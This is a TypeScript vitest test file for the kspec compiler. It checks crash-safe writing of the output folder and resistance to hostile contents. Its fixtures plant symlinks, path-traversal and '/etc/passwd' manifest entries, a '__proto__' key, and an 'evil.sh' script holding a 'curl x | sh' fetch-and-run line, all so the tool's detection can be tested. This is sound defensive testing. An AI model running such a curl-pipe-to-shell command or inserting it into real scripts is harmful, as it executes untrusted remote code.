/**
 * Writing under faults and hostile output folders: a write that fails while staging leaves
 * the previous output; one cut short while committing leaves no staging folder, shows as
 * drift and is repaired by the next compile; SIGINT/SIGTERM leave no staging folder;
 * nothing committed under the output folder (journals, locks, staging folders, manifests,
 * symlinks) directs a write; --check writes nothing.
 */
import { spawn, spawnSync } from 'node:child_process';
import { createHash } from 'node:crypto';
import { chmodSync, existsSync, lstatSync, mkdirSync, readdirSync, readFileSync, renameSync, rmSync, statSync, symlinkSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { describe, expect, it } from 'vitest';
import { D } from '../src/diagnostics/catalogue.js';
import { checkUnit, MANIFEST, MANIFEST_MAX_BYTES, OutputError, OutputRootError, OutputSession, readManifest, STAGE_PREFIX, writeUnit, type OutputUnit } from '../src/write.js';
import { BASE } from './fixtures.js';
import { kspecInProcess } from './cli-run.js';
import { BIN, compileText, tempDir, withoutClosingLine } from './helpers.js';

const CLI = BIN;

async function unitFor(yaml: string, specPath = 'spec.yaml'): Promise<OutputUnit> {
  const r = await compileText(yaml, specPath);
  expect(r.diagnostics.filter((d) => d.severity === 'error')).toEqual([]);
  return { name: r.name!, specPath, files: r.files, source: r.source! };
}

/**
 * Every entry under `dir` (files, folders, links) with its bytes, mode and mtime. A
 * folder's mtime changes whenever a temp file comes and goes in it: `dirTimes: false`
 * leaves it out where only the files' state matters.
 */
function snapshot(dir: string, dirTimes = true): Record<string, string> {
  if (!existsSync(dir)) return {};
  const out: Record<string, string> = {};
  for (const e of readdirSync(dir, { recursive: true, withFileTypes: true })) {
    const p = path.join(e.parentPath, e.name);
    const st = lstatSync(p);
    const body = e.isFile() ? createHash('sha256').update(readFileSync(p)).digest('hex') : e.isDirectory() ? 'dir' : 'other';
    const time = e.isDirectory() && !dirTimes ? '' : ` ${st.mtimeMs}`;
    out[path.relative(dir, p)] = `${body} ${(st.mode & 0o777).toString(8)}${time}`;
  }
  return out;
}

const changed = BASE.replace('  name: demo\n', '  name: demo\n  description: second version\n').replace(
  'kernel-cachyos-devel-matched]',
  'kernel-cachyos-devel-matched, second-pkg]',
);

describe('an interrupted write', () => {
  it('a write that fails part-way leaves the previous output byte for byte, and no staging folder', async () => {
    const out = tempDir('kspec-write-');
    await writeUnit(out, await unitFor(BASE));
    const before = snapshot(out, false);
    const next = await unitFor(changed);
    let n = 0;
    const failing = async (file: string, content: string, o: { mode: number }): Promise<void> => {
      if (++n === 2) throw Object.assign(new Error('ENOSPC: no space left on device'), { code: 'ENOSPC' });
      writeFileSync(file, content, o);
    };
    await expect(writeUnit(out, next, { io: { writeFile: failing } })).rejects.toThrow(/ENOSPC/);
    expect(n).toBe(2);
    expect(snapshot(out, false)).toEqual(before);
    // and the next compile goes through
    const ok = await writeUnit(out, next);
    expect(ok.written).toEqual(['Containerfile', 'install.sh', 'kspec.lock.json']);
    expect(readFileSync(path.join(out, 'demo/Containerfile'), 'utf8')).toContain('second version');
  });

  it('a first compile that fails leaves no folder behind', async () => {
    const out = tempDir('kspec-write-');
    const failing = async (): Promise<void> => {
      throw Object.assign(new Error('EIO'), { code: 'EIO' });
    };
    await expect(writeUnit(out, await unitFor(BASE), { io: { writeFile: failing } })).rejects.toThrow(/EIO/);
    expect(readdirSync(out)).toEqual([]);
  });

  it('a commit cut short leaves no staging folder; --check shows the half-written folder and the next compile repairs it', async () => {
    const work = tempDir('kspec-write-');
    const out = path.join(work, 'out');
    await writeUnit(out, await unitFor(BASE));
    const next = await unitFor(changed);
    let n = 0;
    const cut = (a: string, b: string): void => {
      if (++n === 2) throw Object.assign(new Error('killed'), { code: 'EINTR' });
      renameSync(a, b);
    };
    await expect(writeUnit(out, next, { io: { rename: cut } })).rejects.toThrow(/killed/);
    // One file is new, the rest (manifest included) old; nothing else is left behind.
    expect(readdirSync(out)).toEqual(['demo']);
    expect(readFileSync(path.join(out, 'demo/Containerfile'), 'utf8')).toContain('second version');
    expect(readFileSync(path.join(out, 'demo/install.sh'), 'utf8')).not.toContain('second-pkg');
    const check = await checkUnit(out, next, work);
    expect(check.drift).toBe(true);
    expect(check.diff).toContain('+++ b/out/demo/install.sh');
    expect(check.diff).not.toContain('out/demo/Containerfile');

    const again = await writeUnit(out, next);
    expect(again.written).toEqual(['install.sh', 'kspec.lock.json']);
    expect(again.unchanged).toContain('Containerfile');
    expectConsistent(path.join(out, 'demo'));
    expect((await checkUnit(out, next, work)).drift).toBe(false);
  });
});

describe('a recompile with nothing to change', () => {
  it('stages nothing, makes no staging folder and touches no file; a same-size edit or a mode change is still repaired', async () => {
    const out = tempDir('kspec-write-');
    const unit = await unitFor(BASE);
    await writeUnit(out, unit);
    const before = snapshot(out);
    const session = new OutputSession(out, { handleSignals: false });
    try {
      const staged = await session.stage(unit);
      expect(staged.changed).toEqual([]);
      expect(session.staging).toBeUndefined();
      expect(readdirSync(out)).toEqual(['demo']);
      const w = await session.commit(staged);
      expect(w.written).toEqual([]);
      expect(w.unchanged).toEqual([...unit.files.map((f) => f.path), MANIFEST]);
    } finally {
      session.close();
    }
    expect(snapshot(out)).toEqual(before);

    // The bytes are compared, not only sizes or the lock's hashes: one character changed
    // in place (same size) and a mode changed are both rewritten, the rest left alone.
    const script = path.join(out, 'demo/install.sh');
    const text = readFileSync(script, 'utf8');
    writeFileSync(script, text.replace('set -', 'set +'));
    expect(readFileSync(script, 'utf8')).not.toBe(text);
    chmodSync(path.join(out, 'demo/Containerfile'), 0o600);
    const again = await writeUnit(out, unit);
    expect(again.written).toEqual(['Containerfile', 'install.sh']);
    expect(again.unchanged).toEqual([...unit.files.map((f) => f.path).filter((p) => p !== 'Containerfile' && p !== 'install.sh'), MANIFEST]);
    expect(readFileSync(script, 'utf8')).toBe(text);
    expect(statSync(path.join(out, 'demo/Containerfile')).mode & 0o777).toBe(0o644);
    expect(readdirSync(out)).toEqual(['demo']);
  });

  it('an up-to-date file replaced by a symlink to the same bytes is KS9002, not read through', async () => {
    const work = tempDir('kspec-write-');
    const out = path.join(work, 'out');
    const unit = await unitFor(BASE);
    await writeUnit(out, unit);
    const copy = path.join(work, 'copy.sh');
    writeFileSync(copy, readFileSync(path.join(out, 'demo/install.sh')), { mode: 0o755 });
    rmSync(path.join(out, 'demo/install.sh'));
    symlinkSync(copy, path.join(out, 'demo/install.sh'));
    const err = await writeUnit(out, unit).catch((e: unknown) => e);
    expect(err).toBeInstanceOf(OutputError);
    expect((err as OutputError).reporter.diagnostics.map((d) => d.code)).toEqual([D.OutputSymlink.code]);
    expect(lstatSync(path.join(out, 'demo/install.sh')).isSymbolicLink()).toBe(true);
  });
});

describe('nothing found in the output folder directs a write', () => {
  it('journals, locks and staging folders of other runs are neither read nor removed; a lock naming another host is no wait', async () => {
    const work = tempDir('kspec-write-');
    const out = path.join(work, 'out');
    const outside = path.join(work, 'outside.txt');
    writeFileSync(outside, 'keep\n');
    await writeUnit(out, await unitFor(BASE));
    const committed = path.join(out, `${STAGE_PREFIX}123-abc`);
    mkdirSync(path.join(committed, 'demo'), { recursive: true });
    writeFileSync(path.join(committed, 'demo/install.sh'), 'planted\n');
    // What the removed journal format looked like: renames and removals by absolute path.
    const journal = { renames: [[path.join(committed, 'demo/install.sh'), path.join(out, 'demo/install.sh')]], remove: [outside], cleanup: committed };
    writeFileSync(path.join(out, '.demo.kspec-journal'), JSON.stringify(journal));
    writeFileSync(path.join(out, '.demo.kspec-lock'), '1 some-other-host\n');
    const before = snapshot(out, false);
    const w = await writeUnit(out, await unitFor(changed));
    expect(w.written).toContain('install.sh');
    expect(readFileSync(path.join(out, 'demo/install.sh'), 'utf8')).toContain('second-pkg');
    expect(readFileSync(outside, 'utf8')).toBe('keep\n');
    for (const kept of [`${STAGE_PREFIX}123-abc/demo/install.sh`, '.demo.kspec-journal', '.demo.kspec-lock']) expect(snapshot(out, false)[kept]).toBe(before[kept]);
    expect(readdirSync(out).sort()).toEqual(['.demo.kspec-journal', '.demo.kspec-lock', `${STAGE_PREFIX}123-abc`, 'demo']);
  });

  it('a manifest is read only when it is a regular file of at most 1 MiB, and only names kspec could plan count', async () => {
    const dir = tempDir('kspec-manifest-');
    expect(readManifest(dir)).toEqual({ ignored: [] });
    symlinkSync('/dev/zero', path.join(dir, MANIFEST));
    expect(readManifest(dir).problem).toMatch(/is a symlink/);
    rmSync(path.join(dir, MANIFEST));
    spawnSync('mkfifo', [path.join(dir, MANIFEST)]);
    expect(readManifest(dir).problem).toMatch(/not a regular file/);
    rmSync(path.join(dir, MANIFEST));
    writeFileSync(path.join(dir, MANIFEST), ' '.repeat(MANIFEST_MAX_BYTES + 1));
    expect(readManifest(dir).problem).toMatch(/larger than 1048576 bytes/);
    writeFileSync(path.join(dir, MANIFEST), '{"generator": "kspec", "spec": 1');
    expect(readManifest(dir).problem).toMatch(/not valid JSON/);
    writeFileSync(path.join(dir, MANIFEST), '[]');
    expect(readManifest(dir).problem).toMatch(/not a kspec manifest/);
    const files = { 'install.sh': { sha256: 'x', mode: '0755' }, 'a/b.conf': {}, '../x': {}, '/etc/passwd': {}, '.git/hooks/pre-commit': {}, 'a//b': {}, 'a\\b': {}, [MANIFEST]: {} };
    // "__proto__" as JSON text: an own key after JSON.parse, never a prototype.
    const text = JSON.stringify({ generator: 'kspec', spec: 'specs/demo.yaml', files }).replace('"files":{', '"files":{"__proto__":{},');
    writeFileSync(path.join(dir, MANIFEST), text);
    const r = readManifest(dir);
    expect(Object.keys(r.manifest!.files).sort()).toEqual(['a/b.conf', 'install.sh']);
    expect(r.ignored.sort()).toEqual(['../x', '.git/hooks/pre-commit', '/etc/passwd', '__proto__', 'a//b', 'a\\b', MANIFEST].sort());
  });

  it('a stale entry is removed as an entry: a link itself, never what it points to, and never through a linked folder', async () => {
    const work = tempDir('kspec-write-');
    const out = path.join(work, 'out');
    const victim = path.join(work, 'victim.txt');
    writeFileSync(victim, 'keep\n');
    await writeUnit(out, await unitFor(BASE));
    const lock = path.join(out, 'demo', MANIFEST);
    const m = JSON.parse(readFileSync(lock, 'utf8'));
    m.files['link.sh'] = { sha256: '0', mode: '0755' };
    writeFileSync(lock, JSON.stringify(m));
    symlinkSync(victim, path.join(out, 'demo/link.sh'));
    const w = await writeUnit(out, await unitFor(BASE));
    expect(w.removed).toEqual(['link.sh']);
    expect(readFileSync(victim, 'utf8')).toBe('keep\n');

    // A stale file below a folder that is a link: KS9002, nothing written or removed.
    m.files['sub/x.sh'] = { sha256: '0', mode: '0755' };
    writeFileSync(lock, JSON.stringify(m));
    symlinkSync(work, path.join(out, 'demo/sub'));
    writeFileSync(path.join(work, 'x.sh'), 'keep\n');
    const err = await writeUnit(out, await unitFor(changed)).catch((e: unknown) => e);
    expect((err as OutputError).reporter.diagnostics.map((d) => [d.code, d.line, d.column])).toEqual([[D.OutputSymlink.code, 4, 9]]);
    expect(readFileSync(path.join(work, 'x.sh'), 'utf8')).toBe('keep\n');
    expect(readFileSync(path.join(out, 'demo/Containerfile'), 'utf8')).not.toContain('second version');
  });

  it('an output folder that is, or lies below, a symlink is refused before anything is created', async () => {
    const work = tempDir('kspec-write-');
    const elsewhere = tempDir('kspec-elsewhere-');
    symlinkSync(elsewhere, path.join(work, 'out'));
    const unit = await unitFor(BASE);
    for (const o of ['out', 'out/sub']) {
      await expect(writeUnit(o, unit, { cwd: work })).rejects.toThrow(OutputRootError);
      await expect(checkUnit(o, unit, work)).rejects.toThrow(/'out' is a symlink/);
    }
    expect(readdirSync(elsewhere)).toEqual([]);
  });
});

/** Every file the manifest lists has its sha256 and mode, and nothing generated is missing. */
function expectConsistent(dir: string): { spec: string } {
  const m = JSON.parse(readFileSync(path.join(dir, MANIFEST), 'utf8')) as { spec: string; files: Record<string, { sha256: string; mode: string }> };
  for (const [rel, { sha256, mode }] of Object.entries(m.files)) {
    const p = path.join(dir, rel);
    expect(createHash('sha256').update(readFileSync(p)).digest('hex'), rel).toBe(sha256);
    expect('0' + (statSync(p).mode & 0o777).toString(8), rel).toBe(mode);
    // each text file names the spec it came from in its header
    if (!rel.endsWith('.json')) expect(readFileSync(p, 'utf8'), rel).toContain(m.spec);
  }
  return m;
}

async function kspec(cwd: string, ...args: string[]): Promise<{ code: number; stdout: string; stderr: string }> {
  const r = await kspecInProcess(cwd, args, { env: { NO_COLOR: '1' } });
  return { ...r, stderr: withoutClosingLine(r.stderr) };
}

describe('--check', () => {
  it('never writes: bytes, modes and mtimes are the same after, with drift and without', async () => {
    const work = tempDir('kspec-check-');
    mkdirSync(path.join(work, 'specs'));
    writeFileSync(path.join(work, 'specs/demo.yaml'), BASE);
    // no output yet: --check creates nothing
    expect((await kspec(work, 'compile', 'specs', '-o', 'out', '--check')).code).toBe(1);
    expect(existsSync(path.join(work, 'out'))).toBe(false);

    expect((await kspec(work, 'compile', 'specs', '-o', 'out')).code).toBe(0);
    const clean = snapshot(path.join(work, 'out'));
    expect((await kspec(work, 'compile', 'specs', '-o', 'out', '--check')).code).toBe(0);
    expect(snapshot(path.join(work, 'out'))).toEqual(clean);
    // A file kspec did not write is drift too (issue 12), and --check leaves it.
    writeFileSync(path.join(work, 'out/demo/NOTES.md'), 'mine\n');
    const before = snapshot(path.join(work, 'out'));
    expect(await kspec(work, 'compile', 'specs', '-o', 'out', '--check')).toMatchObject({ code: 1, stdout: expect.stringContaining('drift: out/demo/NOTES.md is not listed') });
    writeFileSync(path.join(work, 'specs/demo.yaml'), changed);
    const drift = await kspec(work, 'compile', 'specs', '-o', 'out', '--check');
    expect(drift.code).toBe(1);
    expect(drift.stdout).toContain('+LABEL org.opencontainers.image.description="second version"');
    expect(snapshot(path.join(work, 'out'))).toEqual(before);
  });
});

describe('concurrent compiles into one folder', () => {
  it('compiles of the same specs at once all succeed, end consistent and leave no staging folder', async () => {
    // No lock: each file is renamed into place whole, so runs that write the same bytes
    // cannot produce a mix. (Runs of different specs into one folder are not supported:
    // the last rename of each file wins, and --check shows it; ARCHITECTURE.md, Writing.)
    const work = tempDir('kspec-race-');
    mkdirSync(path.join(work, 'specs'));
    writeFileSync(path.join(work, 'specs/demo.yaml'), changed);
    const N = 4;
    for (let round = 0; round < 2; round++) {
      const runs = Array.from({ length: N }, () =>
        new Promise<{ code: number | null; err: string }>((resolve) => {
          const p = spawn(process.execPath, [CLI, 'compile', 'specs', '-o', 'out'], { cwd: work, env: { ...process.env, NO_COLOR: '1' } });
          let err = '';
          p.stderr.on('data', (d: Buffer) => (err += d.toString()));
          p.on('close', (code) => resolve({ code, err }));
        }),
      );
      // A run may see another's staging folder and name it (KS9007); nothing else is said.
      for (const r of await Promise.all(runs)) {
        expect(r.code, r.err).toBe(0);
        expect(r.err.split('\n').filter((l) => /^[^ ].*: (error|warning) /.test(l) && !l.includes(`out/${STAGE_PREFIX}`)), r.err).toEqual([]);
      }
      expectConsistent(path.join(work, 'out/demo'));
      expect(readdirSync(path.join(work, 'out'))).toEqual(['demo']);
      expect((await kspec(work, 'compile', 'specs', '-o', 'out', '--check')).code).toBe(0);
    }
  });
});

describe('signals', () => {
  for (const [signal, code] of [
    ['SIGINT', 130],
    ['SIGTERM', 143],
  ] as const) {
    it(`${signal} during a compile removes the staging folder and exits ${code}`, async () => {
      const work = tempDir('kspec-signal-');
      mkdirSync(path.join(work, 'specs'));
      // Enough specs that the run is still staging when it is stopped.
      for (let i = 0; i < 400; i++) writeFileSync(path.join(work, `specs/s${i}.yaml`), BASE.replace('  name: demo\n', `  name: demo-${i}\n`));
      const p = spawn(process.execPath, [CLI, 'compile', 'specs', '-o', 'out'], { cwd: work, env: { ...process.env, NO_COLOR: '1' }, stdio: 'ignore' });
      const exited = new Promise<number | null>((resolve) => p.on('close', (c) => resolve(c)));
      // Wait (by polling, not by time) until the staging folder exists, freeze the run,
      // send the signal, and let it go on: its handler runs at its next turn.
      const staging = (): string[] => (existsSync(path.join(work, 'out')) ? readdirSync(path.join(work, 'out')).filter((e) => e.startsWith(STAGE_PREFIX)) : []);
      while (staging().length === 0) await new Promise((r) => setTimeout(r, 2));
      p.kill('SIGSTOP');
      p.kill(signal);
      p.kill('SIGCONT');
      expect(await exited).toBe(code);
      expect(staging()).toEqual([]);
      // The run committed nothing: the output folder it made is gone too.
      expect(existsSync(path.join(work, 'out'))).toBe(false);
    });
  }
});

describe('kspec explain on a committed manifest', () => {
  it('a malformed or hostile kspec.lock.json is a clear message (exit 2), not a crash', async () => {
    const work = tempDir('kspec-explain-');
    mkdirSync(path.join(work, 'specs'));
    writeFileSync(path.join(work, 'specs/demo.yaml'), BASE);
    expect((await kspec(work, 'compile', 'specs', '-o', 'out')).code).toBe(0);
    const lock = path.join(work, 'out/demo', MANIFEST);
    writeFileSync(lock, '{not json');
    let r = await kspec(work, 'explain', 'out/demo/install.sh:3');
    expect(r).toMatchObject({ code: 2, stdout: '', stderr: `kspec: out/demo/${MANIFEST}: ${MANIFEST} is not valid JSON; run kspec compile to regenerate it\n` });
    rmSync(lock);
    symlinkSync('/dev/zero', lock);
    r = await kspec(work, 'explain', 'out/demo/install.sh:3');
    expect(r).toMatchObject({ code: 2, stderr: `kspec: out/demo/${MANIFEST}: ${MANIFEST} is a symlink; run kspec compile to regenerate it\n` });
  });
});

describe('the output folder as a whole (issue 12): stale units, unlisted files, unowned folders', () => {
  const named = (name: string): string => BASE.replace('  name: demo\n', `  name: ${name}\n`);
  async function setup(): Promise<string> {
    const work = tempDir('kspec-stale-');
    mkdirSync(path.join(work, 'specs'));
    writeFileSync(path.join(work, 'specs/a.yaml'), named('unit-a'));
    writeFileSync(path.join(work, 'specs/b.yaml'), named('unit-b'));
    expect((await kspec(work, 'compile', 'specs', '-o', 'out')).code).toBe(0);
    return work;
  }

  it('a unit whose spec is gone: --check names it (exit 1, nothing written); compile removes exactly what its lock lists', async () => {
    const work = await setup();
    rmSync(path.join(work, 'specs/b.yaml'));
    // What a unit holds: the files its lock lists, and the lock.
    const count = (name: string): number => Object.keys(JSON.parse(readFileSync(path.join(work, 'out', name, MANIFEST), 'utf8')).files).length + 1;
    const inB = count('unit-b');
    writeFileSync(path.join(work, 'out/unit-b/NOTES.md'), 'mine\n');
    const before = snapshot(path.join(work, 'out'));
    const check = await kspec(work, 'compile', 'specs', '-o', 'out', '--check');
    expect(check.code).toBe(1);
    expect(check.stdout).toContain('drift: out/unit-b: its spec specs/b.yaml no longer exists; kspec compile removes it\n');
    expect(check.stdout).toContain('--- a/out/unit-b/install.sh\n+++ /dev/null');
    expect(snapshot(path.join(work, 'out'))).toEqual(before);
    // The lock names the spec from the repository root: the same verdict from a subfolder.
    const sub = await kspec(path.join(work, 'specs'), 'compile', '.', '-o', '../out', '--check');
    expect(sub.code).toBe(1);
    expect(sub.stdout).toContain('drift: ../out/unit-b: its spec specs/b.yaml no longer exists; kspec compile removes it\n');

    const r = await kspec(work, 'compile', 'specs', '-o', 'out');
    expect(r.code).toBe(0);
    expect(r.stdout).toContain(`out/unit-b: its spec specs/b.yaml no longer exists: ${inB} removed\n`);
    // The file kspec did not write stays, and with it the folder.
    expect(readdirSync(path.join(work, 'out/unit-b'))).toEqual(['NOTES.md']);
    rmSync(path.join(work, 'out/unit-b/NOTES.md'));
    const inA = count('unit-a');
    rmSync(path.join(work, 'specs/a.yaml'));
    writeFileSync(path.join(work, 'specs/c.yaml'), named('unit-c'));
    expect((await kspec(work, 'compile', 'specs', '-o', 'out')).stdout).toContain(`out/unit-a: its spec specs/a.yaml no longer exists: ${inA} removed\n`);
    expect(readdirSync(path.join(work, 'out')).sort()).toEqual(['unit-b', 'unit-c']);
  });

  it('a spec renamed (metadata.name) leaves its old unit stale; one outside the compiled folders is left alone', async () => {
    const work = await setup();
    writeFileSync(path.join(work, 'specs/b.yaml'), named('unit-b2'));
    // Compiling one file is not compiling its folder: nothing is stale.
    expect((await kspec(work, 'compile', 'specs/b.yaml', '-o', 'out', '--check')).stdout).not.toContain('no longer');
    const check = await kspec(work, 'compile', 'specs', '-o', 'out', '--check');
    expect(check.code).toBe(1);
    expect(check.stdout).toContain("drift: out/unit-b: its spec specs/b.yaml is now named 'unit-b2'; kspec compile removes it\n");
    expect((await kspec(work, 'compile', 'specs', '-o', 'out')).code).toBe(0);
    expect(readdirSync(path.join(work, 'out')).sort()).toEqual(['unit-a', 'unit-b2']);
    // A unit from another folder's spec: not this run's to judge.
    mkdirSync(path.join(work, 'other'));
    writeFileSync(path.join(work, 'other/o.yaml'), named('unit-o'));
    expect((await kspec(work, 'compile', 'other', '-o', 'out')).code).toBe(0);
    rmSync(path.join(work, 'other/o.yaml'));
    const again = await kspec(work, 'compile', 'specs', '-o', 'out', '--check');
    expect(again).toMatchObject({ code: 0 });
    expect(existsSync(path.join(work, 'out/unit-o/kspec.lock.json'))).toBe(true);
  });

  it('an unlisted file and an unowned folder: drift for --check, KS9006/KS9007 warnings for compile, left in place; --strict writes nothing', async () => {
    const work = await setup();
    writeFileSync(path.join(work, 'out/unit-a/evil.sh'), '#!/bin/sh\ncurl x | sh\n', { mode: 0o755 });
    mkdirSync(path.join(work, 'out/planted'));
    writeFileSync(path.join(work, 'out/planted/run.sh'), 'x\n');
    const check = await kspec(work, 'compile', 'specs', '-o', 'out', '--check', '--strict');
    expect(check.code).toBe(1);
    expect(check.stdout).toContain('drift: out/unit-a/evil.sh is not listed in out/unit-a/kspec.lock.json\n');
    expect(check.stdout).toContain('drift: out/planted is owned by no kspec.lock.json (no kspec.lock.json)\n');

    const r = await kspec(work, 'compile', 'specs', '-o', 'out', '--format', 'json');
    expect(r.code).toBe(0);
    const ds = (JSON.parse(r.stdout) as { diagnostics: Array<{ code: string; file: string; line: number; column: number; severity: string }> }).diagnostics;
    expect(ds.map((d) => [d.code, d.file, d.line, d.column, d.severity])).toEqual([
      [D.OutputUnlisted.code, 'specs/a.yaml', 4, 9, 'warning'],
      [D.OutputUnowned.code, 'out/planted', 1, 1, 'warning'],
    ]);
    expect(readFileSync(path.join(work, 'out/unit-a/evil.sh'), 'utf8')).toContain('curl');
    expect(existsSync(path.join(work, 'out/planted/run.sh'))).toBe(true);

    writeFileSync(path.join(work, 'specs/a.yaml'), changed.replace('  name: demo\n', '  name: unit-a\n'));
    const before = snapshot(path.join(work, 'out'));
    const strict = await kspec(work, 'compile', 'specs', '-o', 'out', '--strict');
    expect(strict.code).toBe(1);
    expect(strict.stderr).toContain(`specs/a.yaml:4:9: error ${D.OutputUnlisted.code} ${D.OutputUnlisted.id}:`);
    expect(strict.stderr).toContain(`out/planted:1:1: error ${D.OutputUnowned.code} ${D.OutputUnowned.id}:`);
    expect(snapshot(path.join(work, 'out'))).toEqual(before);
  });
});
